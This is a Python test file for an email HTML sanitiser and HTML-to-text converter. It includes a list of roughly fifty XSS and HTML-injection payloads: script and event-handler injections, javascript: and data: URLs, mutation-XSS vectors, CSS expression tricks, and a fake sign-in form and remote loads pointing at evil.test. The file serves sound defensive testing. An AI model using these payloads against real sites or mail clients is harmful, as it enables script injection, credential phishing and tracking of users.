"""A stranger's HTML becomes safe to look at."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.mail.html import TAGS, sanitise
from app.mail.plaintext import from_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=1 oNeRrOr=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=//evil.test/x.swf>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' &#14;  javascript:alert(1);'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<form action=//evil.test><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<style>@import url(//evil.test/x.css);body{display:none}</style>",
    "<p style='background:url(//evil.test/x.png)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='b\\61 ckground:url(//evil.test)'>x</p>",
    "<p style='color:red;behavior:url(x.htc)'>x</p>",
    "<p style='-moz-binding:url(//evil.test)'>x</p>",
    "<table background=//evil.test/x.png><td background=//evil.test/y.png>x</table>",
    "<video src=//evil.test/x.mp4 autoplay></video><audio src=//evil.test/x.mp3>",
    "<picture><source srcset=//evil.test/x.webp><img srcset=//evil.test/x.png></picture>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img lowsrc=//evil.test/x.png dynsrc=//evil.test/y.png>",
    "<p id=content name=content class=modal>x</p>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<div><<script>alert(1)<</script>",
    "<b onmouseover='alert(1)'>x</b>",
    "<img alt='<img src=\"https://evil.test/x.png\">' src='https://evil.test/y.png'>",
    "<a href='https://evil.test' target=_self rel=opener ping=//evil.test>x</a>",
]


class Elements(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def assert_safe(page: str) -> None:
    for tag, attributes in Elements(page).found:
        assert tag in TAGS, tag
        for name, value in attributes.items():
            assert not name.startswith("on"), name
            assert name not in ("id", "class", "name", "srcset", "background", "ping", "srcdoc", "action"), name
            if name in ("href", "src"):
                assert re.match(r"(?:https?:|mailto:|tel:|/|data:image/(?!svg))", value or "")
            if name == "src":
                assert not (value or "").startswith("http")
            if name == "style":
                assert not re.search(r"url|expression|position|behavior|binding|@|\\", value or "", re.IGNORECASE), (
                    value
                )
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"


@pytest.mark.parametrize("page", HOSTILE)
def test_hostile_html_does_nothing(page: str) -> None:
    assert_safe(sanitise(page))
    assert_safe(sanitise(f"<div><p>before</p>{page}<p>behind</p></div>"))


@given(
    st.lists(
        st.sampled_from(
            [*HOSTILE, "<", ">", '"', "'", "</p>", "<!--", "-->", "<svg>", "</svg>", "<table>", "<p>", "&lt;", "text"]
        ),
        max_size=8,
    )
)
def test_hostile_html_in_any_mixture_does_nothing(pieces: list[str]) -> None:
    assert_safe(sanitise("".join(pieces)))


@given(st.text())
def test_any_text_is_sanitised(text: str) -> None:
    assert_safe(sanitise(text))


def test_the_look_of_a_letter_stays() -> None:
    page = (
        '<table width="600" cellpadding="4"><tr><td bgcolor="#eee" style="color: red; font-weight: bold">'
        "Hello <b>Kim</b></td></tr></table>"
    )
    shown = sanitise(page)
    for part in ('width="600"', 'bgcolor="#eee"', "color:red", "font-weight:bold", "<b>Kim</b>"):
        assert part in shown.replace(": ", ":")


def test_one_strange_rule_does_not_cost_the_other_rules() -> None:
    assert "color:red" in sanitise('<p style="background:url(x);color:red">x</p>').replace(" ", "")


def test_paragraphs_of_outlook_stand_close_and_their_own_margin_wins() -> None:
    assert sanitise("<p class=MsoNormal>x</p>") == '<p style="margin:0">x</p>'
    assert sanitise('<p class="x_MsoListParagraph" style="margin-left:36pt">x</p>').startswith(
        '<p style="margin:0;margin-left:36pt">'
    )
    assert sanitise('<p class="lead close">x</p>') == "<p>x</p>"


def test_remote_pictures_wait_until_they_are_asked_for() -> None:
    page = '<img src="https://acme.test/a.png?x=1&amp;y=2" alt="A">'
    assert sanitise(page) == '<img data-remote-src="https://acme.test/a.png?x=1&amp;y=2" alt="A">'
    assert sanitise(page, remote_images=True) == page
    assert 'data-remote-src="https://acme.test/a.png"' in sanitise("<img src=//acme.test/a.png>")


def test_inline_pictures_get_their_addresses() -> None:
    page = '<img src="cid:Logo@acme"><img src="cid:other">'
    assert sanitise(page, inline={"logo@acme": "/files/1"}) == '<img src="/files/1"><img>'
    assert sanitise('<img src="cid:%6Cogo@acme">', inline={"<Logo@acme>": "/files/1"}) == '<img src="/files/1">'


def test_small_pictures_within_the_letter_are_shown() -> None:
    page = '<img src="data:image/png;base64,iVBORw0KGgo=">'
    assert sanitise(page) == page


def test_links_open_elsewhere() -> None:
    assert sanitise('<a href="https://acme.test/?a=1&b=2">x</a>') == (
        '<a href="https://acme.test/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>'
    )
    assert 'href="mailto:kim@acme.test"' in sanitise('<a href="mailto:kim@acme.test">x</a>')
    assert 'href="http://www.acme.test"' in sanitise('<a href="www.acme.test">x</a>')


@pytest.mark.parametrize("tag", ["div", "blockquote", "b", "table><tr><td", "a", "p", "font", "ul><li", "span"])
def test_deep_html_takes_no_longer_than_its_length(tag: str) -> None:
    page = f"<{tag}>" * 100_000 + "the end"
    assert "the end" in sanitise(page)
    assert "the end" in from_html(page)


def test_too_large_html_is_not_shown() -> None:
    assert sanitise("x" * 5_000_000) == ""


@pytest.mark.parametrize(
    ("page", "text"),
    [
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("<div>one</div><div>two</div>", "one\ntwo"),
        ("one<br>two<br><br>three", "one\ntwo\n\nthree"),
        ("<p class=MsoNormal>one</p><p class=MsoNormal>&nbsp;</p><p class=MsoNormal>two</p>", "one\n\ntwo"),
        ("<ol><li>one<li>two</ol>", "1. one\n2. two"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>", "a  b\nc  d"),
        ("<blockquote>one<br>two</blockquote>three", "> one\n> two\n\nthree"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<p>a  b\n c</p>", "a b c"),
        ("<style>p{}</style><script>x</script>a<div style='display:none'>hidden</div>b", "ab"),
        ("a&nbsp;b &lt;c&gt; &amp; d", "a b <c> & d"),
        ("<?xml version='1.0' encoding='utf-16'?><p>Grüße</p>", "Grüße"),
        ("", ""),
    ],
)
def test_html_reads_as_plain_text(page: str, text: str) -> None:
    assert from_html(page) == text
